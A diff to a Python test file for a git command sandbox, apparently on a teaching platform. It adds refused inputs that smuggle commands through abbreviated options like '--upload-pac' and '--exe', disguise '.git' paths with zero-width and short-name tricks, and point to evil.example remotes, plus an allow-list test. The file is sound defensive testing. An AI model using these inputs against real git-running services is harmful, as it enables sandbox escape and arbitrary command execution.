@@ -20,7 +20,10 @@ REFUSED = [
     ("git --exec-path=/tmp/evil status", "global option"),
     ("git --git-dir=/etc status", "global option"),
     ("git --work-tree=/ status", "global option"),
-    ("git -C .. status", "outside the working repository"),
+    ("git -C .. status", "top of the working repository"),
+    ("git -C sub status", "top of the working repository"),
+    ("git -Csub status", "top of the working repository"),
+    ("git --git-d=sub status", "global option"),
     # aliases and subcommands that run programs
     ("git '!sh -c id'", "shell aliases"),
     ("git co main", "aliases"),
@@ -61,6 +64,29 @@ REFUSED = [
     ("git pull -sevil", "custom merge strategies"),
     ("git diff --output=report.txt", "writes outside"),
     ("git log --output=.git/config", "writes outside"),
+    # git expands any unique prefix of a long option: abbreviations of dangerous options (red-team finding)
+    ("git fetch '--upload-pac=x; touch proof; git-upload-pack' ../remote.git", "abbreviation of --upload-pack"),
+    ("git push '--receive-pac=touch proof' origin", "runs a program"),
+    ("git push --exe=evil origin", "runs a program"),
+    ("git rebase '--exe=touch proof' --root", "runs a program"),
+    ("git log --outp=x", "writes outside"),
+    ("git commit --gpg=KEY -m x", "signing"),
+    ("git add --inter", "interactive"),
+    ("git pull --rebase=interactive", "interactive"),
+    ("git pull -ri", "interactive"),
+    ("git fetch --recurse-submodules=yes", "other programs, repositories"),
+    ("git push --repo=sub", "other programs, repositories"),
+    # options that are not on the subcommand's allow-list, or abbreviated
+    ("git commit --frobnicate -m x", "--frobnicate is not an option `git commit` may use"),
+    ("git status -X", "-X is not an option `git status` may use"),
+    ("git diff --stag", "write it in full (--staged)"),
+    ("git log -n --exec=evil", "attached to its option"),
+    ("git add --verbose=yes notes.md", "takes no value"),
+    # a repository the solution wrote itself is not a remote (red-team finding: its config runs commands)
+    ("git push ./sub HEAD:refs/heads/x", "the only repository"),
+    ("git fetch sub/ main", "the only repository"),
+    ("git remote add evil sub", "the only repository"),
+    ("git remote set-url origin ../remote.git/../work/sub", "the only repository"),
     # non-file transports
     ("git push ssh://evil.example/repo main", "only paths inside the sandbox"),
     ("git fetch https://evil.example/repo", "only paths inside the sandbox"),
@@ -81,6 +107,9 @@ REFUSED = [
     ("write ../remote.git/hooks/post-receive 'x'", "outside the working repository"),
     ("write .git/hooks/pre-commit '#!/bin/sh\\nid\\n'", ".git"),
     ("append .GIT/config '[core]\\n'", ".git"),
+    ("write .g\u200cit/config '[core]\\n'", ".git"),
+    ("write '.git. /config' '[core]\\n'", ".git"),
+    ("write GIT~1/config '[core]\\n'", ".git"),
     ("delete ../gitconfig", "outside the working repository"),
     ("write sub/../../escape.txt 'x'", "outside the working repository"),
     # not git at all
@@ -97,8 +126,12 @@ ALLOWED = [
     "git show HEAD:.gitignore", "git config user.name 'Ada Lovelace'", "git config --get user.email",
     "git config pull.rebase false", "git stash push -m wip", "git restore --staged secrets.env",
     "git reset --hard HEAD~1", "git checkout -b feature", "git switch -c feature/search",
-    "git diff --staged", "git tag -a v1 -m 'first release'", "git pull --rebase", "git -C sub status",
-    "git --no-pager log", "write docs/notes.md 'hello\\n'", "delete notes.md", "append a.txt 'x'",
+    "git diff --staged", "git tag -a v1 -m 'first release'", "git pull --rebase",
+    "git --no-pager log", "git branch -u origin/main", "git log -3 --format=%h --grep=discount", "git status -uno",
+    "git diff -U5 --word-diff=color", "git push --force-with-lease origin HEAD", "git checkout -- notes.md",
+    "git pull --rebase=merges", "git log --end-of-options main", "git diff --color-words",
+    "git push origin --delete x", "git log --left-right --oneline main...origin/main", "git stash push -u -m wip",
+    "git restore --source=HEAD~1 notes.md", "git branch --set-upstream-to=origin/main", "git shortlog -sn", "write docs/notes.md 'hello\\n'", "delete notes.md", "append a.txt 'x'",
 ]
 
 
@@ -179,3 +212,18 @@ def test_the_replay_ignores_the_users_git_configuration(tmp_path: Path, monkeypa
     sandbox = build_level("first-push", tmp_path)
     assert (sandbox.remote / "refs" / "heads" / "main").exists() or "main" in (sandbox.remote / "packed-refs").read_text()
     assert not proof.exists()
+
+
+#: Allowed options that are also the start of a dangerous one: each is an exact option of its
+#: subcommand in git, and git takes an exact name before expanding an abbreviation (reviewed by hand).
+EXACT_NOT_ABBREVIATIONS = {"--verify", "--local", "--patch", "--text", "--edit"}
+
+
+def test_no_allowed_option_could_be_read_as_a_dangerous_one() -> None:
+    from learnbackend.gitsandbox.gitoptions import DANGEROUS, SPECS
+
+    for sub, spec in SPECS.items():
+        for name in spec.longs:
+            near = [d for d in DANGEROUS if d.startswith(name)]
+            assert not near or name in EXACT_NOT_ABBREVIATIONS, (sub, name, near)
+            assert name not in DANGEROUS or (name == "--patch" and sub in ("diff", "log", "show", "reflog")), (sub, name)
